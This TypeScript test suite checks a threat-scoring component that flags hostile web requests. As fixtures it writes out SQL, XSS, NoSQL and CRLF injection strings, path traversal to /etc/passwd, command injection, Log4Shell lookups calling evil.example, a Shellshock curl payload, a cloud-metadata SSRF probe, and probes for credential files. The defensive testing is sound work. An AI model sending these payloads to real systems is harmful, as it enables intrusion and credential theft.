import { expect } from 'chai';
import { ServiceError } from '../../../platform/service-error';
import { CHROME_UA, FIREFOX_UA, SAFARI_UA, T0_MS, browserRequest, scannerRequest } from '../../../testing/camouflage-kit';
import { ThreatScorer } from './threat-scoring';
import { AssessInput, HEADER_VALUE_CHARS_MAX, SCAN_PART_CHARS_MAX, percentDecode } from './threat-signals';

const scorer = new ThreatScorer();

function names(input: AssessInput): string[] {
  return scorer.scoreStatic(input).signals.map((signal) => signal.name);
}

function expectInvalid(input: unknown, field: string): void {
  try {
    scorer.prepare(input);
  } catch (thrown) {
    expect(thrown).to.be.instanceOf(ServiceError);
    expect((thrown as ServiceError).reason).to.equal('INVALID_ARGUMENT');
    expect((thrown as ServiceError).fieldViolations[0]?.field).to.equal(field);
    return;
  }
  expect.fail(`expected INVALID_ARGUMENT on ${field}`);
}

describe('camouflage threat scoring (static signals)', () => {
  // Proves ordinary browsing by three real browsers scores 0 with no signal at all.
  it('scores ordinary browser requests 0', () => {
    const pages = [
      { path: '/', query: '' },
      { path: '/products/42', query: 'page=2&sort=price' },
      { path: '/search', query: 'q=select+running+shoes+and+socks&size=42' },
      { path: '/static/js/app.4f3c2a.js', query: '' },
      { path: '/blog/2024/03/why-we-moved-to-http3', query: 'utm_source=newsletter&utm_medium=email' },
      { path: '/api/cart', query: 'items=%5B1%2C2%2C3%5D' },
      { path: '/account/orders', query: 'from=2024-01-01&to=2024-03-31' },
      { path: '/help/faq', query: 'topic=returns%20%26%20refunds' },
    ];
    const chromeHeaders = browserRequest().headers;
    const plainHeaders = Object.fromEntries(Object.entries(chromeHeaders).filter(([name]) => !name.startsWith('sec-ch-')));
    for (const [userAgent, headers] of [[CHROME_UA, chromeHeaders], [FIREFOX_UA, plainHeaders], [SAFARI_UA, plainHeaders]] as const) {
      for (const page of pages) {
        const result = scorer.scoreStatic(browserRequest({ ...page, userAgent, headers }));
        expect(result.signals, `${userAgent} ${page.path}`).to.deep.equal([]);
        expect(result.threatLevel).to.equal(0);
        expect(result.tier).to.equal('benign');
      }
    }
  });

  // Proves nikto and sqlmap probing secret files land in the attack tier with explained signals.
  it('scores scanner probes of secret files 9-10', () => {
    const nikto = scorer.scoreStatic(scannerRequest());
    expect(nikto.threatLevel).to.equal(10);
    expect(nikto.tier).to.equal('attack');
    expect(nikto.signals.map((s) => s.name)).to.include.members(['scanner-user-agent', 'sensitive-file-probe', 'host-is-ip-literal']);
    expect(nikto.signals.find((s) => s.name === 'scanner-user-agent')?.detail).to.contain('Nikto');

    const sqlmap = scorer.scoreStatic(
      scannerRequest({ userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)', path: '/.git/config', headers: { host: 'shop.example.com' } }),
    );
    expect(sqlmap.threatLevel).to.be.at.least(9);
    for (const path of ['/.aws/credentials', '/wp-config.php.bak', '/.env.production', '/backup.sql', '/phpinfo.php', '/actuator/env']) {
      expect(scorer.scoreStatic(scannerRequest({ path })).threatLevel, path).to.be.at.least(9);
    }
  });

  // Proves each injection family is detected, URL-decoded, with the location in the detail.
  it('detects injection payloads in path, query, headers and body', () => {
    const cases: [Partial<AssessInput>, string][] = [
      [{ query: "id=1'%20OR%20'1'%3D'1" }, 'sql-injection'],
      [{ query: 'id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users' }, 'sql-injection'],
      [{ query: 'id=1;%20WAITFOR%20DELAY%20%270:0:5%27' }, 'sql-injection'],
      [{ query: 'q=%3Cscript%3Ealert(document.cookie)%3C/script%3E' }, 'xss'],
      [{ query: 'q=%22%3E%3Csvg%20onload%3Dalert(1)%3E' }, 'xss'],
      [{ path: '/static/..%2f..%2f..%2fetc/passwd' }, 'path-traversal'],
      [{ path: '/download', query: 'file=%252e%252e%252fconfig' }, 'path-traversal'],
      [{ query: 'host=8.8.8.8;cat%20/etc/passwd' }, 'command-injection'],
      [{ query: 'ip=127.0.0.1%7Cwhoami' }, 'command-injection'],
      [{ headers: { host: 'a', 'x-api-version': '${jndi:ldap://evil.example/a}' } }, 'log4shell-jndi'],
      [{ headers: { host: 'a', referer: '${${lower:j}${::-n}di:${lower:l}dap://x/y}' } }, 'log4shell-jndi'],
      [{ userAgent: '() { :; }; /bin/bash -c "curl http://x"' }, 'shellshock'],
      [{ query: 'name=%7B%7B7*7%7D%7D' }, 'template-injection'],
      [{ query: 'url=http://169.254.169.254/latest/meta-data/' }, 'ssrf-probe'],
      [{ bodyExcerpt: '{"username":{"$ne":null},"password":{"$ne":null}}', method: 'POST' }, 'nosql-injection'],
      [{ query: 'next=%0d%0aSet-Cookie:%20x=1' }, 'crlf-injection'],
    ];
    for (const [overrides, expected] of cases) {
      const result = scorer.scoreStatic(browserRequest(overrides));
      const signal = result.signals.find((s) => s.name === expected);
      expect(signal, `${expected} in ${JSON.stringify(overrides)}`).to.not.equal(undefined);
      expect(result.threatLevel).to.be.at.least(5);
    }
    const header = scorer.scoreStatic(browserRequest({ headers: { ...browserRequest().headers, 'x-api-version': '${jndi:rmi://x/y}' } }));
    expect(header.signals.find((s) => s.name === 'log4shell-jndi')?.detail).to.contain('header:x-api-version');
    expect(header.threatLevel).to.be.at.least(9);
  });

  // Proves header anomalies and weak client hints add up only in combination.
  it('scores header anomalies and weak client hints', () => {
    const bare = browserRequest({ headers: { host: 'shop.example.com' } });
    expect(names(bare)).to.include.members(['browser-missing-accept', 'browser-missing-accept-language']);
    expect(scorer.scoreStatic(bare).tier).to.equal('benign');
    expect(names(browserRequest({ userAgent: 'curl/8.5.0', headers: { host: 'a', accept: '*/*' } }))).to.deep.equal(['scripted-client']);
    expect(names(browserRequest({ userAgent: '', headers: { host: 'a' } }))).to.include('empty-user-agent');
    const smuggling = names(browserRequest({ method: 'POST', headers: { ...browserRequest().headers, 'content-length': '4', 'transfer-encoding': 'chunked' } }));
    expect(smuggling).to.include('length-header-conflict');
    expect(names(browserRequest({ userAgent: FIREFOX_UA }))).to.include('client-hints-mismatch');
    expect(names(browserRequest({ method: 'TRACE' }))).to.include('unusual-method');
    expect(names(browserRequest({ headers: { ...browserRequest().headers, 'x-forwarded-for': '127.0.0.1' } }))).to.include('forwarded-for-loopback');
    const bad = new ThreatScorer({ badTlsFingerprints: { 'E7D705A3286E19EA42F587B344EE6865': 'test-listed client' } });
    const tls = bad.scoreStatic(browserRequest({ tlsFingerprint: 'e7d705a3286e19ea42f587b344ee6865' }));
    expect(tls.signals.map((s) => s.name)).to.deep.equal(['known-bad-tls-fingerprint']);
  });

  // Proves a long field is flagged and still scanned in full, so filler cannot hide the payload behind it (issue 17).
  it('flags oversized fields and still scans them in full', () => {
    const long = `q=${'a'.repeat(SCAN_PART_CHARS_MAX + 10)}%27%20OR%201%3D1`;
    const result = scorer.scoreStatic(browserRequest({ query: long }));
    expect(result.signals.map((s) => s.name)).to.deep.equal(['sql-injection', 'oversized-input']);
  });

  // Proves malformed percent-encoding does not throw and still decodes what it can.
  it('decodes malformed percent escapes without throwing', () => {
    expect(percentDecode('%E0%A4%A/..%2f', false)).to.contain('../');
    expect(scorer.scoreStatic(browserRequest({ path: '/%E0%A4%A/..%2f..%2fetc/passwd' })).threatLevel).to.be.at.least(6);
  });

  // Proves every input field is validated with a typed error naming the field as AssessRequest names it.
  it('rejects malformed input with INVALID_ARGUMENT naming the field', () => {
    const ok = browserRequest();
    expectInvalid(null, 'request');
    expectInvalid({ ...ok, clientIp: 'not-an-ip' }, 'client_ip');
    expectInvalid({ ...ok, method: 'GET /' }, 'method');
    expectInvalid({ ...ok, path: '' }, 'path');
    expectInvalid({ ...ok, path: `/${'a'.repeat(8_192)}` }, 'path');
    expectInvalid({ ...ok, sessionKey: '' }, 'session_key');
    expectInvalid({ ...ok, sessionKey: 'has space' }, 'session_key');
    expectInvalid({ ...ok, timestampMs: 1_700_000_000 }, 'timestamp');
    expectInvalid({ ...ok, timestampMs: T0_MS + 0.5 }, 'timestamp');
    expectInvalid({ ...ok, headers: { 'bad name': 'x' } }, 'headers');
    expectInvalid({ ...ok, headers: { host: 42 } }, 'headers.host');
    expectInvalid({ ...ok, headers: { host: 'a'.repeat(HEADER_VALUE_CHARS_MAX + 1) } }, 'headers.host');
    expectInvalid({ ...ok, headers: Object.fromEntries(Array.from({ length: 129 }, (_, i) => [`x-h${i}`, 'v'])) }, 'headers');
    expectInvalid({ ...ok, previousStatus: 99 }, 'previous_status');
    expectInvalid({ ...ok, previousStatus: 200.5 }, 'previous_status');
    expectInvalid({ ...ok, tlsFingerprint: 'ja3 with spaces' }, 'tls_fingerprint');
    expectInvalid({ ...ok, userAgent: 7 }, 'user_agent');
  });
});
